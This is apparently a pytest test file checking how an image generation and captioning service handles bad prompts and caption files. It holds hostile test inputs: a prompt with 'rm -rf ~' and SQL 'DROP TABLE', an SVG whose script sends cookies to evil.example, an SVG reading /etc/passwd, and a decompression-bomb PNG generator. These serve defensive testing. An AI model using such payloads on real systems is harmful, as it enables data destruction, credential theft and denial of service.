"""Bad input: prompts (empty, blank, very long, emoji and right-to-left, NUL, SQL and shell
metacharacters) and caption files (empty, truncated, an SVG with a script, 100 MB, a
20,000×20,000 decompression bomb, every type the original schema document lists, large
images downscaled before upload).

Already covered elsewhere, and marked there: a text file named .png (tests/core/test_service.py,
tests/e2e/test_cli_errors.py), cookies in each accepted form, junk and a missing session
cookie, fuzzed with hypothesis (tests/core/test_cookies.py), CLI arguments out of range (count 0
or 9, unknown size, negative seed: exit code 2 and one line, tests/e2e/test_cli_errors.py).
"""

from __future__ import annotations

import base64
import functools
import io
import json
import struct
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from core.imagefx import GenerationRequest
from core.images import ImageError
from core.service import Service, ValidationError
from core.standin import StandInServer
from tests.faults.conftest import one_line_error
from tests.support.dbcheck import rows, scalar

Run = Callable[..., subprocess.CompletedProcess[str]]

# --- prompts ---------------------------------------------------------------------------------------

VERBATIM = {
    "10000-characters": ("a very long prompt " * 600)[:9_990] + " — the end",
    "emoji-and-right-to-left": "🦊🔥 a fox — שועל אדום בשלג — ثعلب أحمر في الثلج \u200f(RTL)\u200e 👩🏽‍🚀 e\u0301",
    "sql-and-shell": "$(rm -rf ~) `id` ; | & > /dev/null 'single' \"double\" \\ %s %(x)s {0} -- ; DROP TABLE prompts;",
    "surrounding-whitespace": "  \tindented, with a line break\nand trailing spaces  ",
}
REJECTED = {
    "empty": ("", "empty"),
    "whitespace-only": (" \t\n  \u3000", "empty"),
    "nul-byte": ("a cat\x00 with a NUL", "NUL"),
    "over-20000-characters": ("x" * 20_001, "limit"),
}


@pytest.mark.fault_case("bad input: prompt stored verbatim")
@pytest.mark.parametrize("prompt", list(VERBATIM.values()), ids=list(VERBATIM))
def test_odd_prompts_are_stored_and_shown_verbatim(module_service: Service, module_db: str,
                                                   standin: StandInServer, prompt: str) -> None:
    result = module_service.generate(GenerationRequest(prompt, count=1))
    assert scalar(module_db, "SELECT prompt_text FROM prompts WHERE id = %s", (result.record.prompt_id,)) == prompt
    sent = standin.last_request["generate"]["json"]["userInput"]["prompts"]
    assert sent == [prompt]  # sent as typed
    image = module_service.image(result.record.images[0].id)
    assert image is not None and image.prompt == prompt and image.returned_prompt == prompt
    assert prompt in [r.prompt for r in module_service.history(limit=100)]


@pytest.mark.fault_case("bad input: prompt rejected with a reason")
@pytest.mark.parametrize("prompt, reason", list(REJECTED.values()), ids=list(REJECTED))
def test_unusable_prompts_are_refused_with_a_reason_before_anything_is_sent(
        module_service: Service, standin: StandInServer, prompt: str, reason: str) -> None:
    before = standin.calls["generate"]
    with pytest.raises(ValidationError) as info:
        module_service.generate(GenerationRequest(prompt, count=1))
    assert reason in str(info.value) and "\n" not in str(info.value)
    assert standin.calls["generate"] == before


@pytest.mark.fault_case("bad input: prompts through the CLI")
def test_the_cli_stores_odd_prompts_verbatim_and_refuses_blank_ones(cli: Run, tmp_path: Path, db_url: str,
                                                                    demo_cookie: str) -> None:
    odd = VERBATIM["emoji-and-right-to-left"] + " " + VERBATIM["sql-and-shell"]
    done = cli("generate", "-p", odd, "-n", "1", "-d", str(tmp_path / "out"), "-c", demo_cookie)
    assert done.returncode == 0, done.stderr
    assert scalar(db_url, "SELECT prompt_text FROM prompts") == odd
    [row] = json.loads(cli("history", "--json").stdout)
    assert row["prompt"] == odd
    [saved] = done.stdout.splitlines()
    assert Path(saved).parent == tmp_path / "out" and Path(saved).is_file()  # a file name made safe
    one_line_error(cli("generate", "-p", "  ", "-n", "1", "-d", str(tmp_path), "-c", demo_cookie), 2, "empty")
    assert rows(db_url, "SELECT count(*) FROM prompts") == [(1,)]


# --- caption files -----------------------------------------------------------------------------------

def encode(fmt: str, size: tuple[int, int] = (96, 64), mode: str = "RGB", **kw: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (40, 160, 90) if mode == "RGB" else 128).save(out, fmt, **kw)
    return out.getvalue()


def apng() -> bytes:
    frames = [Image.new("RGBA", (48, 48), c) for c in ((255, 0, 0, 255), (0, 0, 255, 255))]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" viewBox="0 0 120 80">'
       b'<rect width="120" height="80" fill="#3366cc"/><circle cx="60" cy="40" r="20" fill="#ffcc00"/></svg>')
SVG_WITH_SCRIPT = SVG.replace(b"</svg>", b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                                         b'<a onclick="alert(1)"><text x="5" y="15">hi</text></a></svg>')
SVG_WITH_FILE = SVG.replace(b"</svg>", b'<image href="file:///etc/passwd" width="10" height="10"/></svg>')


@functools.cache
def png_bomb(side: int = 20_000) -> bytes:
    """A real 20,000×20,000 greyscale PNG (400 megapixels) of 0.4 MB: a decompression bomb."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    z = zlib.compressobj(9)
    rows_ = b"\x00" * (side + 1) * 500
    idat = b"".join(z.compress(rows_) for _ in range(side // 500)) + z.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


EVERY_TYPE = {  # the original schema document's list: jpeg, jpg, jpe, png, gif, webp, svg, bmp, tiff, apng, avif
    "jpeg": ("photo.jpeg", lambda: encode("JPEG"), "jpeg"),
    "jpg": ("photo.jpg", lambda: encode("JPEG"), "jpeg"),
    "jpe": ("photo.jpe", lambda: encode("JPEG"), "jpeg"),
    "png": ("picture.png", lambda: encode("PNG"), "png"),
    "gif": ("anim.gif", lambda: encode("GIF", mode="L"), "gif"),
    "webp": ("picture.webp", lambda: encode("WEBP"), "webp"),
    "svg": ("drawing.svg", lambda: SVG, "svg"),
    "bmp": ("old.bmp", lambda: encode("BMP"), "bmp"),
    "tiff": ("scan.tiff", lambda: encode("TIFF"), "tiff"),
    "apng": ("moving.png", apng, "apng"),
    "avif": ("modern.avif", lambda: encode("AVIF"), "avif"),
}


def sent_image(standin: StandInServer) -> tuple[str, bytes]:
    """The MIME type and bytes of the last image uploaded for captioning."""
    raw = standin.last_request["caption"]["json"]["json"]["captionInput"]["mediaInput"]["rawBytes"]
    head, data = raw.split(",", 1)
    return head.removeprefix("data:").split(";")[0], base64.b64decode(data)


@pytest.mark.fault_case("bad input: every caption image type of the schema document")
@pytest.mark.parametrize("declared", list(EVERY_TYPE), ids=list(EVERY_TYPE))
def test_every_listed_image_type_is_captioned(module_service: Service, module_db: str, standin: StandInServer,
                                              tmp_path: Path, declared: str) -> None:
    name, make, kind = EVERY_TYPE[declared]
    path = tmp_path / name
    path.write_bytes(make())
    result = module_service.caption_file(path, count=1, image_type=declared)
    assert result.image_type == kind and result.captions
    mime, data = sent_image(standin)
    assert mime in ("image/png", "image/jpeg", "image/webp")  # types the service reads
    assert Image.open(io.BytesIO(data)).size[0] > 0
    assert scalar(module_db, "SELECT image_type FROM image_captions WHERE id = %s", (result.records[0].id,)) == kind


REFUSED_FILES: dict[str, tuple[Callable[[Path], object], str, str | None]] = {
    "zero-bytes": (lambda p: p.write_bytes(b""), "empty", None),
    "truncated-png": (lambda p: p.write_bytes(encode("PNG", (300, 200))[:120]), "damaged", None),
    "svg-pointing-at-a-file": (lambda p: p.write_bytes(SVG_WITH_FILE), "self-contained", None),
    "100-megabytes": (lambda p: _grow(p, encode("PNG"), 100 * 1024 * 1024), "too large", None),
    "20000x20000-bomb": (lambda p: p.write_bytes(png_bomb()), "too large", None),
    "declared-type-differs": (lambda p: p.write_bytes(encode("JPEG")), "not PNG", "png"),
}


def _grow(path: Path, head: bytes, size: int) -> None:
    with open(path, "wb") as fh:
        fh.write(head)
        fh.truncate(size)  # sparse: 100 MB that costs no disk


@pytest.mark.fault_case("bad input: caption file refused with a reason")
@pytest.mark.parametrize("make, reason, declared", list(REFUSED_FILES.values()), ids=list(REFUSED_FILES))
def test_unusable_caption_files_are_refused_before_anything_is_sent(
        module_service: Service, standin: StandInServer, tmp_path: Path,
        make: Callable[[Path], object], reason: str, declared: str | None) -> None:
    path = tmp_path / "upload.png"
    make(path)
    before = standin.calls["caption"]
    with pytest.raises(ImageError) as info:
        module_service.caption_file(path, count=1, image_type=declared)
    assert reason in str(info.value) and "\n" not in str(info.value)
    assert standin.calls["caption"] == before


@pytest.mark.fault_case("bad input: SVG with a script")
def test_an_svg_with_a_script_is_drawn_to_pixels_and_never_sent_as_svg(module_service: Service,
                                                                       standin: StandInServer, tmp_path: Path) -> None:
    path = tmp_path / "scripted.svg"
    path.write_bytes(SVG_WITH_SCRIPT)
    result = module_service.caption_file(path, count=1)
    assert result.image_type == "svg" and result.captions
    mime, data = sent_image(standin)
    assert mime == "image/png" and data.startswith(b"\x89PNG")
    assert b"script" not in data and b"evil.example" not in data


@pytest.mark.fault_case("bad input: large images downscaled before upload")
def test_a_large_image_is_downscaled_before_upload(module_service: Service, standin: StandInServer,
                                                   tmp_path: Path) -> None:
    path = tmp_path / "huge.png"
    path.write_bytes(encode("PNG", (4800, 3200)))
    result = module_service.caption_file(path, count=1)
    assert result.downscaled
    _mime, data = sent_image(standin)
    w, h = Image.open(io.BytesIO(data)).size
    assert max(w, h) <= 2048 and abs(w / h - 1.5) < 0.01


@pytest.mark.fault_case("bad input: caption files through the CLI")
def test_the_cli_refuses_unusable_caption_files_in_one_line(cli: Run, tmp_path: Path, demo_cookie: str) -> None:
    empty = tmp_path / "empty.png"
    empty.write_bytes(b"")
    one_line_error(cli("caption", "-i", str(empty), "-c", demo_cookie), 2, "empty")
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(png_bomb())
    one_line_error(cli("caption", "-i", str(bomb), "-c", demo_cookie), 2, "too large")
